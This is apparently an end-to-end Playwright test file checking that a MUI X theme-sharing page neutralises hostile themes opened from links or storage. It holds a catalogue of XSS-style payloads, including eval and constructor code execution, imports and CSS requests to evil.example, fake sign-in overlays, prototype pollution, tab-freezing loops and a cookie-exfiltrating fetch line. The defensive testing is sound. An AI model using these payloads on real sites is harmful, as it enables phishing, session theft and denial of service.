import { deflateRawSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { BARS, openDemo } from './demoPage';
import { untilIdle } from './support/quiet';
import { sample } from './support/sample';
import { expect, test } from './support/test';

const KEY = 'mui-x-theme';
const EVIL = 'https://evil.example';

type Options = Readonly<Record<string, unknown>>;

const stored = ({ code, ...options }: Options) =>
  JSON.stringify(
    code === undefined
      ? { version: 1, options }
      : { version: 2, files: [{ name: 'theme.ts', code }], options },
  );
const linkOf = (options: Options) =>
  `/x/theme/#theme1=${deflateRawSync(stored(options)).toString('base64url')}`;
const stylesOf = (root: unknown, component = 'MuiPaper'): Options => ({
  components: { [component]: { styleOverrides: { root } } },
});
const propsOf = (component: string, defaultProps: unknown): Options => ({
  components: { [component]: { defaultProps } },
});
/** A theme in code. */
const codeOf = (code: string): Options => ({ code });
const rootOf = (root: string) =>
  codeOf(
    `export const theme = { components: { MuiButton: { styleOverrides: { root: ${root} } }, MuiPaper: { styleOverrides: { root: ${root} } } } };`,
  );

const ran = `window.ran = true; location = '${EVIL}'; alert(1)`;

const SIGN_IN = {
  position: 'fixed',
  inset: 0,
  zIndex: 2_000_000,
  content: '"Session expired. Sign in at evil.example"',
  background: 'red',
};

const COVER = {
  position: 'absolute',
  top: 0,
  left: 0,
  width: '200vw',
  height: '100vh',
  zIndex: 999_999,
  backgroundImage: 'linear-gradient(red, blue)',
};

/** Themes by what they try. Each is opened from a link, without a click. */
const HOSTILE: Readonly<Record<string, readonly Options[]>> = {
  'runs code': [
    codeOf(`try { (0, eval)("${ran}"); } catch {} export const theme = { spacing: 8 };`),
    codeOf(
      `const all = [Function, (async () => {}).constructor, ({}).constructor.constructor]; all.forEach((make) => { try { make("${ran}")(); } catch {} }); export const theme = { spacing: 8 };`,
    ),
    rootOf(
      `function root() { try { this.constructor.constructor("${ran}")(); } catch {} return {}; }`,
    ),
    rootOf(
      `({ theme, ownerState }) => { for (const owner of [theme, ownerState, theme.spacing]) { try { owner.constructor.constructor("${ran}")(); } catch {} } return { color: theme.palette.text.primary, '--a': () => 1 }; }`,
    ),
    codeOf(
      'Object.prototype.a = 1; Array.prototype.a = 1; export const theme = { spacing: 8, __proto__: { a: 1 } };',
    ),
    codeOf(`import('${EVIL}/a.js'); import '${EVIL}/b.js'; export const theme = { spacing: 8 };`),
    JSON.parse(`{"__proto__":{"a":1},"constructor":{"prototype":{"a":1}}}`) as Options,
  ],
  'returns hostile styles': [
    rootOf(
      `() => ({ '&::after': ${JSON.stringify(SIGN_IN)}, 'body:has(&)': { opacity: 0 }, position: 'fixed' })`,
    ),
    rootOf(
      `() => ({ ['back' + 'ground']: 'u' + 'rl(${EVIL})', ['background:u' + 'rl(${EVIL}/?']: 'x)' })`,
    ),
    rootOf(`() => 'position: fixed; inset: 0; background: url(${EVIL})'`),
    rootOf(
      `() => ({ filter: 'blur(100000px) '.repeat(20), styles: 'x', name: 'y', toString: () => 'z' })`,
    ),
  ],
  'leaves its rule': [
    stylesOf(
      { color: '[', '&:hover': { color: '] red' }, '& nav': { display: 'none' } },
      'MuiButton',
    ),
    stylesOf({ content: '"', '&:hover': { content: '" red' }, '& header': { opacity: 0 } }),
    stylesOf({ '@media (min-width:1px': { color: 'red' }, '& nav': { opacity: 0 } }),
    { typography: { fontFamily: 'x label:,body' } },
    stylesOf({ '--xlabel': 'x,body', opacity: 0, transform: 'scale(2)' }),
    rootOf("() => 'label:,body;opacity:0'"),
    stylesOf(
      { color: 'red//', '@media all': { '--y': '\nb' }, '& nav, & header': { opacity: 0.1 } },
      'MuiButton',
    ),
    rootOf(
      "() => ({ color: 'red//', '@media all': { '--y': '\\nb' }, '& nav': { opacity: 0.1 } })",
    ),
    stylesOf({ background: `ur//x\nl(${EVIL}/p)` }),
    { typography: { body1: { ...COVER, '&::after': { ...SIGN_IN, position: 'absolute' } } } },
    {
      typography: {
        allVariants: { ...COVER, float: 'left', '&::before': { ...SIGN_IN, position: 'absolute' } },
      },
    },
    { typography: { body1: [{ position: 'fixed', inset: 0 }] } },
    stylesOf(
      { '&::after': { ...SIGN_IN, position: 'absolute', inset: '-9999px' } },
      'MuiScopedCssBaseline',
    ),
  ],
  'changes elements': [
    {
      components: {
        MuiInputBase: { defaultProps: { inputComponent: 'iframe' } },
        MuiTextField: {
          defaultProps: {
            slotProps: {
              input: { inputComponent: 'meta' },
              htmlInput: { httpEquiv: 'refresh', content: `0,${EVIL}` },
            },
          },
        },
        MuiOutlinedInput: {
          defaultProps: {
            inputComponent: 'meta',
            inputProps: { httpEquiv: 'refresh', content: `0,${EVIL}` },
          },
        },
      },
    },
    {
      components: {
        MuiButtonBase: {
          defaultProps: { LinkComponent: 'iframe', SRC: EVIL, HREF: EVIL, to: EVIL },
        },
        MuiButton: { defaultProps: { component: 'a', href: `java\tscript:${ran}`, HREF: EVIL } },
        MuiTypography: {
          defaultProps: { component: 'base', variantMapping: { body1: 'form' }, HREF: EVIL },
        },
        MuiSvgIcon: { defaultProps: { component: 'object', DATA: EVIL } },
        MuiPaper: {
          defaultProps: {
            component: 'form',
            ACTION: EVIL,
            dangerouslySetInnerHTML: { __html: '<img src=x>' },
          },
        },
        MuiChip: { defaultProps: { component: 'embed', SRC: EVIL, clickable: true } },
        MuiDataGrid: {
          defaultProps: { slots: { toolbar: 'iframe' }, slotProps: { root: { is: 'a' } } },
        },
      },
    },
    propsOf('MuiTextField', {
      type: 'password',
      autoComplete: 'current-password',
      label: 'Password',
      autoFocus: true,
    }),
    {
      components: {
        MuiDialog: { defaultProps: { open: true } },
        MuiTooltip: { defaultProps: { open: true, title: 'Session expired' } },
        MuiSelect: { defaultProps: { defaultOpen: true } },
        MuiDatePicker: { defaultProps: { open: true, defaultOpen: true } },
        MuiPopper: { defaultProps: { open: true, container: 'body' } },
      },
    },
  ],
  'sends requests': [
    stylesOf({ [`background:url(${EVIL}/?`]: 'x)' }),
    stylesOf({ styles: `background:url(${EVIL})`, name: 'a' }, 'MuiButton'),
    {
      components: {
        MuiPaper: {
          defaultProps: {
            sx: {
              background: `url(${EVIL})`,
              [`a:url(${EVIL}`]: ')',
              '&::after': { content: `url(${EVIL})` },
            },
            style: { backgroundImage: `image-set("${EVIL}" 1x)` },
          },
          variants: [
            { props: {}, style: { cursor: `url(${EVIL}), auto`, [`b:url(${EVIL}/`]: 'x)' } },
          ],
          styleOverrides: { root: { '@import': EVIL, '@font-face': { src: `url(${EVIL})` } } },
        },
        MuiButton: {
          styleOverrides: {
            root: { [`@media url(${EVIL})`]: { color: 'red' }, mask: `u\\72l(${EVIL})` },
          },
        },
        MuiCssBaseline: { styleOverrides: `body { background: url(${EVIL}) }` },
      },
      typography: { fontFamily: `a;src:url(${EVIL})`, body1: { background: `url(${EVIL})` } },
      palette: { background: { default: `#fff url(${EVIL})` } },
    },
  ].map(({ palette: _palette, ...rest }: Options) => rest),
  'restyles the page': [
    stylesOf({ 'body:has(&)': { opacity: 0 }, 'html:has(&) nav': { display: 'none' } }),
    stylesOf({
      '@media (min-width: 1px)': { 'body:has(&) header': { visibility: 'hidden' } },
      ':is(body):has(&)': { opacity: 0 },
      ':root:has(&) header': { transform: 'translate(9999px)' },
      '&, body': { filter: 'invert(1)' },
      'x{}body': { opacity: 0 },
      '& }body{opacity:0;': { color: 'red' },
    }),
    {
      components: {
        MuiCssBaseline: { styleOverrides: { body: { opacity: 0 }, '*': { display: 'none' } } },
        MuiScopedCssBaseline: {
          styleOverrides: { root: { 'body &': { opacity: 0 }, '& ~ *': { opacity: 0 } } },
        },
      },
      typography: { body1: { 'header:has(~ * &)': { opacity: 0 } }, 'body:has(&)': { opacity: 0 } },
      mixins: { toolbar: { 'body:has(&)': { opacity: 0 } } },
    },
  ],
  'covers the page': [
    stylesOf({ '&::after': SIGN_IN, '&::before': SIGN_IN }),
    stylesOf({ '&::after': { ...SIGN_IN, position: 'var(--p)' }, '--p': 'fixed' }, 'MuiButton'),
    stylesOf({
      '&::after': {
        ...SIGN_IN,
        position: 'absolute',
        inset: '-9000px',
        boxShadow: '0 0 0 1000px red',
      },
      position: 'absolute',
      top: -5000,
      insetInlineStart: '-5000px',
      transform: 'scale(100)',
    }),
    {
      components: {
        MuiScopedCssBaseline: {
          styleOverrides: {
            root: {
              '& *': { position: 'sticky', margin: -9000, zIndex: 9_999_999 },
              '&::after': SIGN_IN,
            },
          },
        },
        MuiPaper: {
          defaultProps: {
            sx: { position: { xs: 'fixed' }, inset: 0 },
            style: { position: 'fixed' },
          },
        },
        MuiSnackbar: { defaultProps: { open: true, message: 'Session expired' } },
        MuiBackdrop: { defaultProps: { open: true } },
      },
    },
  ],
  'freezes the tab': [
    rootOf('() => { for (;;) {} }'),
    rootOf('() => [].indexOf.call({ length: 2 ** 53 - 1 }, 1)'),
    rootOf("() => { let text = 'x'; for (;;) { text += text; } }"),
    propsOf('MuiSlider', { marks: true, step: 1e-5 }),
    propsOf('MuiSlider', { marks: true, max: 1e7 }),
    propsOf('MuiDateCalendar', { fixedWeekNumber: 1e7 }),
    stylesOf({
      filter: 'blur(100000px) '.repeat(20),
      boxShadow: Array(2000).fill('0 0 99px red').join(),
    }),
    {
      components: {
        MuiRating: { defaultProps: { max: 1e7, precision: 1e-7 } },
        MuiPagination: { defaultProps: { count: 1e9, siblingCount: 1e8 } },
        MuiDataGrid: {
          defaultProps: {
            rowHeight: 1e-6,
            disableVirtualization: true,
            rowBufferPx: 1e9,
            columnBufferPx: 1e9,
          },
        },
        MuiChartsXAxis: { defaultProps: { tickNumber: 1e8, tickMaxStep: 1e-9 } },
        MuiButton: {
          variants: Array(2000).fill({ props: { size: 'small' }, style: { color: 'red' } }),
        },
        MuiBarChart: { defaultProps: { height: 1e9, width: 1e9, margin: { left: 1e9 } } },
      },
      typography: { htmlFontSize: 1e-9 },
      spacing: 1e9,
    },
  ],
};

/** What a theme has no business with, collected from the first byte of the page. */
async function watch(page: Page): Promise<string[]> {
  const found: string[] = [];
  page.on('dialog', (dialog) => {
    found.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().includes('evil')) {
      found.push(`request: ${request.url()}`);
    }
  });
  await page.exposeFunction('reportViolation', (text: string) => found.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) =>
      (window as unknown as { reportViolation: (text: string) => void }).reportViolation(
        `policy: ${event.violatedDirective} ${event.blockedURI}`,
      ),
    );
  });
  return found;
}

/** Foreign elements of demos, and how what is around them looks. */
const stateOf = (page: Page) =>
  page.evaluate(() => {
    const foreign = [
      ...['iframe', 'object', 'embed', 'form', 'script', 'base', 'link', 'meta', 'img', 'video'],
      ...['[type="password"]', '[href]', '[src]', '[srcdoc]', '[action]', '[data]', '[formaction]'],
    ];
    // React names the style element of the grid's variables by an address.
    const rootSelector = foreign.map((tag) => `[data-demo-root] ${tag}:not(style)`).join();
    const describe = (selector: string) => {
      const element = document.querySelector(selector);
      if (!element) {
        return `${selector}: missing`;
      }
      const { display, filter, opacity, transform, visibility } = getComputedStyle(element);
      const box = element.getBoundingClientRect();
      const top = document.elementFromPoint(box.x + box.width / 2, Math.min(box.y + 8, 700));
      const isCovered = !(top === element || element.contains(top));
      return [selector, display, filter, opacity, transform, visibility, isCovered].join(' ');
    };
    return {
      foreign: [...document.querySelectorAll(rootSelector)].map(({ outerHTML }) =>
        outerHTML.slice(0, 200),
      ),
      around: ['html', 'body', 'header', 'h1', '[data-notice-probe]', 'main', 'footer'].map(
        describe,
      ),
      ran: 'ran' in window || 'a' in {},
      popups: document.querySelectorAll('[role="dialog"], [role="tooltip"], .MuiModal-root').length,
    };
  });

/** Marks a button of the notice, which must stay on top. */
async function openLink(page: Page, options: Options) {
  await page.goto('about:blank');
  await page.goto(linkOf(options));
  const notice = page.getByRole('region', { name: 'This link carries a theme' });
  const discard = notice.getByRole('button', { name: 'Discard it' });
  await discard.evaluate((button) => button.setAttribute('data-notice-probe', ''));
  const preview = page.getByRole('region', { name: 'Preview' });
  await expect(preview.locator('[data-status="ready"]')).toHaveCount(5);
  await untilIdle(page);
  return { discard, state: await stateOf(page) };
}

for (const [kind, themes] of Object.entries(HOSTILE)) {
  test(`a link with a theme that ${kind} does nothing of it`, async ({ page, problems }) => {
    test.slow();
    const found = await watch(page);
    const { state: plain } = await openLink(page, { shape: { borderRadius: 5 } });
    expect(plain.foreign).toEqual([]);
    for (const theme of sample(themes, 2)) {
      const { discard, state } = await openLink(page, theme);
      expect(state, JSON.stringify(theme).slice(0, 300)).toEqual(plain);
      expect(new URL(page.url()).pathname).toBe('/x/theme/');
      await discard.click();
      await expect(discard).toBeHidden();
    }
    expect(found).toEqual([]);
    // A theme may break a component, which says so in its place.
    problems.length = 0;
  });
}

test.describe('a link with code that does not end', () => {
  for (const [what, code] of Object.entries({
    'a loop': 'for (;;) {}',
    'many objects': 'const all = []; for (;;) { all.push({}); }',
    'deep recursion': 'const deep = () => deep() + 1; deep();',
    'an array without an end': '[].includes.call({ length: 2 ** 53 - 1 }, 1);',
    'a loop in which the limit is lost': 'for (;;) new Promise(() => { for (;;); });',
    'a loop of slow steps': `const all = Array.from({ length: 99_999 }, (_, i) => 'a'.repeat(50) + i); for (;;) all.sort();`,
    'code that takes the compiler forever': `const x = ${'(a = '.repeat(40)}1${'): any => a'.repeat(40)};`,
    'an error that does not end': 'throw { toJSON() { for (;;); } };',
  })) {
    test(`${what} is stopped, and says so`, async ({ page }) => {
      await page.goto(linkOf(codeOf(`${code}\nexport const theme = {};`)));
      await expect(page.getByText(/The theme of this link could not be opened\./)).toBeVisible();
      // The page still responds.
      await page.getByRole('button', { name: 'Clay' }).click();
      await expect(page.getByRole('button', { name: 'Clay' })).toHaveAttribute(
        'aria-pressed',
        'true',
      );
    });
  }
});

test('the notice names what it leaves out', async ({ page }) => {
  const notice = page.getByRole('region', { name: 'This link carries a theme' });
  await page.goto(linkOf(propsOf('MuiButton', { href: EVIL, size: 'small' })));
  await notice.getByText('Show what is left out').click();
  await expect(notice).toContainText('components.MuiButton.defaultProps.href');
});

test('a stored theme cannot do more than one of a link', async ({ page, problems }) => {
  test.slow();
  const found = await watch(page);
  for (const [path, options] of [
    ['/x/react-date-pickers/digital-clock/', propsOf('MuiDigitalClock', { timeStep: 0 })],
    ['/x/react-date-pickers/date-calendar/', propsOf('MuiDateCalendar', { fixedWeekNumber: 1e7 })],
    [BARS, { ...(HOSTILE['runs code']?.[2] ?? {}) }],
    ['/x/', stylesOf({ '&::after': SIGN_IN, 'body:has(&)': { opacity: 0 } })],
  ] as const) {
    await page.goto('/x/introduction/');
    await page.evaluate(([key, text]) => localStorage.setItem(key, text), [
      KEY,
      stored(options),
    ] as const);
    await page.goto(path);
    const canvas = page.locator('[data-themed]').first();
    await canvas.scrollIntoViewIfNeeded();
    await expect(canvas.locator('[data-demo-root]').first()).not.toBeEmpty();
    await untilIdle(page);
    const { around, foreign, ran: hasRun } = await stateOf(page);
    expect(hasRun).toBe(false);
    expect(foreign.filter((html) => html.includes('evil'))).toEqual([]);
    expect(around.slice(0, 2).join()).not.toMatch(/ 0 /);
  }
  expect(found).toEqual([]);
  problems.length = 0;
});

test('an export of stored data contains no code', async ({ page }) => {
  const code = `fetch('${EVIL}?' + document.cookie)`;
  const options = stylesOf({ color: `'+${code}+'`, [`a: ${code}, b`]: 1 }, 'MuiButton');
  await page.addInitScript(([key, text]) => localStorage.setItem(key, text), [
    KEY,
    stored({ ...options, shape: { borderRadius: 3 } }),
  ] as const);
  await page.goto('/x/theme/');
  await expect(
    page.getByText(/Parts of your theme that do not apply .* left out: [12]\./),
  ).toBeVisible();
  const tools = page.getByRole('group', { name: 'Theme tools' });
  await tools.getByRole('button', { name: 'Export' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export the theme' });
  await expect(dialog).toContainText('borderRadius: 3');
  // At most as a text in quotes.
  await expect(dialog).not.toContainText(/(?<!\\'\+)fetch\(/);
});

test('a theme that froze a page is off after a reload, until the reader tries again', async ({
  page,
}) => {
  test.slow();
  const options = stylesOf({ '--frozen': 'rebeccapurple' }, 'MuiDataGrid');
  await page.addInitScript(
    ([key, text]) => {
      if (sessionStorage.getItem('froze')) {
        return;
      }
      localStorage.setItem(key, text);
      // The first style with the mark blocks the page for as long as a browser shows its warning.
      for (const { prototype: owner } of [CSSStyleSheet, CSSGroupingRule]) {
        const insert = owner.insertRule;
        owner.insertRule = function insertSlowly(rule, index) {
          if (rule.includes('--frozen') && !sessionStorage.getItem('froze')) {
            sessionStorage.setItem('froze', '1');
            const end = performance.now() + 12_000;
            while (performance.now() < end);
          }
          return insert.call(this, rule, index);
        };
      }
    },
    [KEY, stored(options)] as const,
  );
  const grid = '/x/react-data-grid/column-definition/';
  const root = page.locator('[data-demo="BasicColumnsGrid"] .MuiDataGrid-root').first();
  const frozen = () =>
    root.evaluate((element) => getComputedStyle(element).getPropertyValue('--frozen'));
  await page.goto(grid);
  await openDemo(page, 'BasicColumnsGrid');
  await expect
    .poll(() => page.evaluate(() => sessionStorage.getItem('froze')), { timeout: 20_000 })
    .toBe('1');
  // The page notices how long it was blocked.
  await expect
    .poll(() => page.evaluate(() => sessionStorage.getItem('mui-x-theme-stopped')))
    .not.toBeNull();

  await page.reload();
  const mark = page.getByRole('complementary', { name: 'Your theme' });
  await expect(mark).toContainText(
    'The page stopped responding with your theme, so it is off in this tab.',
  );
  await openDemo(page, 'BasicColumnsGrid');
  expect(await frozen()).toBe('');

  await page.goto('/x/theme/');
  await expect(page.getByRole('region', { name: 'Preview' })).toContainText(
    'The page stopped responding with this theme',
  );
  await expect(page.getByRole('switch', { name: 'Use on all demos' })).toBeEnabled();

  await page.goto(grid);
  await openDemo(page, 'BasicColumnsGrid');
  await mark.getByRole('button', { name: 'Try again' }).click();
  await expect(mark).toContainText('Your theme is on');
  await expect.poll(frozen).toBe('rebeccapurple');
});

test('fixed parts of a demo stay in its canvas, and popups open as usual', async ({ page }) => {
  await page.addInitScript(([key, text]) => localStorage.setItem(key, text), [
    KEY,
    stored({ shape: { borderRadius: 9 } }),
  ] as const);
  await page.goto('/x/react-date-pickers/date-picker/');
  const card = await openDemo(page, 'BasicDatePicker');
  const canvas = card.locator('> [data-demo-canvas]');
  await expect(canvas).toHaveCSS('contain', 'content');
  await card
    .getByRole('button', { name: /Choose date/ })
    .first()
    .click();
  const popup = page.getByRole('dialog').filter({ has: page.getByRole('grid') });
  await expect(popup).toBeVisible();
  const [inner, outer] = await Promise.all([popup.boundingBox(), canvas.boundingBox()]);
  expect(inner?.height).toBeGreaterThan(250);
  expect((inner?.y ?? 0) + (inner?.height ?? 0)).not.toBe((outer?.y ?? 0) + (outer?.height ?? 0));
  await page.keyboard.press('Escape');
  await expect(popup).toBeHidden();
  const box = await canvas.evaluate((element) => {
    const fixed = document.createElement('div');
    fixed.style.cssText = 'position: fixed; inset: 0';
    element.querySelector('[data-demo-root]')?.append(fixed);
    const { width, height } = fixed.getBoundingClientRect();
    fixed.remove();
    return { width, height, own: element.getBoundingClientRect().height };
  });
  expect(box.height).toBeLessThanOrEqual(box.own + 1);
});
